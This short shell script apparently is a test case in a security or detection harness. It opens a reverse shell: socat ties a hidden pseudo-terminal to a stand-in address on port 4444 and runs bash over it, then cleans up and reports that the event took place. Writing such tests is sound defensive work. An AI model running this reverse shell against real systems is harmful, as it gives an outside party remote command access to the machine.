#!/bin/sh
. /opt/case/case.sh

socat pty,link=/tmp/.tty0,rawer,wait-slave tcp:203.0.113.77:4444 & relay=$!
wait_for /tmp/.tty0
bash </tmp/.tty0 >/tmp/.tty0 2>&1 &
wait_for /tmp/reached
kill $relay || true
took_place
